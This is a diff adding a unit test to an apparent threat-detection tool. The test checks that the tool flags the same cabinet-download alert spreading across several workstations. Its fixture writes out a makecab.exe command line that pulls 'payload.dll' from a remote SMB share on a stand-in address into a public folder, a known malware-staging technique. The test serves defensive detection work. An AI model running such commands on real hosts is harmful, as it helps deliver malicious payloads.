@@ -199,3 +199,24 @@ def test_minimal_and_odd_alerts_do_not_break_any_step() -> None:
         assert a.verdict in ("benign", "suspicious", "malicious")
         assert a.to_dict()["cabhunt"]["why"]
         assert not [v for v in (a.extra.get("steps") or {}).values() if v.startswith("failed")]
+
+
+def test_fleet_spread_of_the_same_source_host_and_cabinet_hash() -> None:
+    s = MiniStore()
+    baseline(s, FLEET)
+    src = "\\\\198.51.100.7\\share\\payload.dll"
+    rows = [proc(h, SYS32 + "makecab.exe", f"makecab.exe {src} C:\\Users\\Public\\p.cab", f"{{F{i}}}", 2000 + i,
+                 t=i * 300) for i, h in enumerate(("WS01", "WS02", "WS03"))]
+    uids = s.add(*rows)
+    s.add(*[filecreate(h, "C:\\Users\\Public\\p.cab", f"{{F{i}}}", 2000 + i, t=i * 300 + 1, sha="77" * 32, code=15)
+            for i, h in enumerate(("WS01", "WS02", "WS03"))],
+          conn("WS05", "C:\\Program Files\\Browser\\browser.exe", 99, "198.51.100.7", 443, t=-9000))
+    a = alert_for("makecab_download_cab", "WS01", rows[0], [uids[0]],
+                  sources=[SourceRef(src, "smb", "198.51.100.7", None, True, "external", via="cmdline")],
+                  cabinets=[CabinetRef("C:\\Users\\Public\\p.cab", False, True)])
+    a = _run(s, a)
+    spread = next(f for f in a.findings if f.id == "fleet.spread")
+    assert "2 other host(s)" in spread.title
+    text = " ".join(spread.evidence)
+    assert "cabinet_hash" in text and "source_host:198.51.100.7" in text and "ws05" not in text
+    assert "fleet.rare_destination" not in a.finding_ids()  # ws05 talks to it too
